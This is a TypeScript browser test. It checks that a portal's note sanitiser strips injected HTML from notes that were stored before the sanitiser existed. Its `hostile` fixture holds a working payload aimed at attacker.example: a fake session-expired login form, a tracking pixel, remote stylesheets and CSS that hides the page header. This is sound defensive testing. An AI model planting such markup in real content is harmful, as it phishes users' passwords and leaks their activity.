/**
 * Issue 28 §2 in Chromium, both bundles: a note holding a style sheet, a form and a remote
 * image, put raw into the store as data written before the policy would be (so the portal's
 * own sanitiser is what stands), shows its text without any of them, leaves the portal's look
 * alone and makes no request outside the API. Needs `npm run build` first.
 */
import { describe, expect, it } from 'vitest';
import { createNote, searchNotes } from '../../src/api/contract/notes';
import { hasChromium } from './browser';
import { BUNDLES, PASSWORD, go, requireChromiumInCi, useHarness } from './harness';

requireChromiumInCi();

const hostile = (marker: string) =>
  '<style>.ap-header,.ap-menu{display:none!important}*{background:url(https://attacker.example/bg.png)!important}</style>' +
  `<p style="position:fixed;inset:0;z-index:9999;background:#fff" class="ap-modal">${marker} : rappeler <strong>Mme Martin</strong>.</p>` +
  '<form action="https://attacker.example/login" method="post"><p>Session expirée</p><input name="login"><input type="password" name="password"><button type="submit">Se connecter</button></form>' +
  '<img src="https://attacker.example/pixel.gif" alt="suivi"><link rel="stylesheet" href="https://attacker.example/x.css">';
const kept = (marker: string) => `<p>${marker} : rappeler <strong>Mme Martin</strong>.</p><p>Session expirée</p>Se connecter`;

describe.skipIf(!hasChromium)('user HTML in Chromium', () => {
  const harness = useHarness();

  async function rawNote(marker: string): Promise<void> {
    const login = await fetch(`${harness.url}/public/login/portal`, {
      method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ login: 'directrice@demo.fr', password: PASSWORD }),
    }).then((r) => r.json() as Promise<{ token: string }>);
    const headers = { 'Content-Type': 'application/json', Authorization: `Bearer ${login.token}` };
    const notes = await fetch(`${harness.url}${searchNotes.path}`, { method: 'POST', headers, body: JSON.stringify({ pageSize: 100 }) })
      .then((r) => r.json() as Promise<{ content: { familyId: number | null }[] }>);
    const familyId = notes.content.find((n) => n.familyId)!.familyId;
    const created = await fetch(`${harness.url}${createNote.path}`, { method: 'POST', headers, body: JSON.stringify({ content: `<p>${marker}</p>`, familyId }) })
      .then((r) => r.json() as Promise<{ id: number }>);
    // As old data: straight into the store, past the sandbox's own sanitiser.
    harness.sandbox.db.prepare('UPDATE notes SET content = ? WHERE id = ?').run(hostile(marker), created.id);
  }

  for (const bundle of BUNDLES) {
    it(`bundle ${bundle}: shows the note's text without its style sheet, form or remote image, and asks nothing outside the API`, async () => {
      const marker = `Note ancienne ${bundle}`;
      await rawNote(marker);
      const { page, portal, problems } = await harness.signedIn(bundle);
      const requests: string[] = [];
      page.on('request', (request) => requests.push(request.url()));
      await go(page, '/notebook');
      const note = portal.locator('.ap-note', { hasText: marker });
      await note.waitFor();
      await expect(note.locator('.ap-note__content').innerHTML()).resolves.toBe(kept(marker));
      await expect(note.locator('.ap-note__content').innerText()).resolves.toBe(`${marker} : rappeler Mme Martin.\n\nSession expirée\n\nSe connecter`);
      // The portal keeps its look: its header is shown, the note's paragraph stays in the note.
      await expect(portal.locator('.ap-header').isVisible()).resolves.toBe(true);
      await expect(note.locator('.ap-note__content p').first().evaluate((p) => getComputedStyle(p).position)).resolves.toBe('static');
      await expect(portal.locator('input[name="password"]').count()).resolves.toBe(0);
      // A remote image or style sheet is asked for as soon as its element is made: two painted frames after the note is shown.
      await page.evaluate(() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done))));
      // How many calls the page makes depends on its timers: at least one, and none elsewhere.
      expect(requests.length).toBeGreaterThan(0);
      expect(requests.filter((url) => !url.startsWith(`${harness.url}/`))).toEqual([]);
      expect(problems).toEqual([]);
      await page.close();
    });
  }
});
